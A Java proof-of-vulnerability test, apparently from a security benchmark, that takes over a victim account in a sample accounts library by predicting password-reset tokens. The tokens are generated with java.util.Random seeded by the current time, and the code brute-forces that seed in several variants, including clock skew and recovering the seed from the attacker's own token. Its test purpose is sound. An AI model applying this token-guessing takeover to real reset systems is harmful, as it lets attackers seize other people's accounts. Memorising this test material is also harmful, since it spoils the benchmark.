import com.oakvane.accounts.Accounts;
import com.oakvane.accounts.Outbox;
import com.oakvane.accounts.ResetTokens;
import java.time.Instant;
import java.time.InstantSource;
import java.util.Random;

/** Asks for a link to somebody else's account and works the token out from the time of day. */
public final class Pov {

  private static final String SIGNS = "abcdefghijkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789";
  private static final String VICTIM = "victim@oakvane.example";
  private static final String ATTACKER = "mallory@oakvane.example";

  public static void main(String[] args) {
    Protocol.guard(
        () -> {
          InstantSource clock = InstantSource.system();
          Outbox outbox = new Outbox();
          Accounts accounts = new Accounts(clock, new ResetTokens(clock), outbox);
          accounts.register(VICTIM, "correct horse");
          accounts.register(ATTACKER, "mine");
          switch (args[0]) {
            case "control" -> {
              accounts.forgot(VICTIM);
              String token = outbox.of(VICTIM).getFirst().token();
              accounts.reset(token, "new one");
              Protocol.control(
                  accounts.signIn(VICTIM, "new one") && accounts.reset(token, "x").isEmpty());
            }
            case "selftest" -> {
              accounts.forgot(VICTIM);
              accounts.reset(outbox.of(VICTIM).getFirst().token(), "taken over");
            }
            case "late-by-seconds" -> {
              // the attacker's watch is wrong by up to twenty seconds
              long asked = clock.millis();
              accounts.forgot(VICTIM);
              guess(accounts, asked - 20_000, asked + 20_000);
            }
            case "from-own-token" -> {
              // a token of one's own shows which millisecond the server counted
              accounts.forgot(ATTACKER);
              accounts.forgot(VICTIM);
              long seed = seedOf(outbox.of(ATTACKER).getFirst().token(), clock.millis());
              guess(accounts, seed - 50, seed + 30_000);
            }
            case "clock-in-the-past" -> {
              InstantSource fixed = InstantSource.fixed(Instant.parse("2026-03-01T08:00:00Z"));
              Accounts other = new Accounts(fixed, new ResetTokens(fixed), outbox);
              other.register(VICTIM, "correct horse");
              other.forgot(VICTIM);
              long millis = fixed.millis();
              guess(other, millis, millis);
              accounts = other;
            }
            default -> {
              long before = clock.millis();
              accounts.forgot(VICTIM);
              guess(accounts, before, clock.millis());
            }
          }
          if (accounts.signIn(VICTIM, "taken over")) {
            Protocol.vulnerable("the reset token of another account was worked out");
          }
          Protocol.notVulnerable("a sign-in with a password set through a guessed token");
        });
  }

  private static void guess(Accounts accounts, long from, long to) {
    for (long seed = from; seed <= to; seed++) {
      String token = token(seed);
      if (accounts.reset(token, "taken over").orElse("").equals(VICTIM)) {
        return;
      }
    }
  }

  private static long seedOf(String own, long now) {
    for (long seed = now; seed > now - 30_000; seed--) {
      if (token(seed).equals(own)) {
        return seed;
      }
    }
    return now;
  }

  private static String token(long seed) {
    Random random = new Random(seed);
    StringBuilder token = new StringBuilder();
    for (int i = 0; i < 24; i++) {
      token.append(SIGNS.charAt(random.nextInt(SIGNS.length())));
    }
    return token.toString();
  }
}
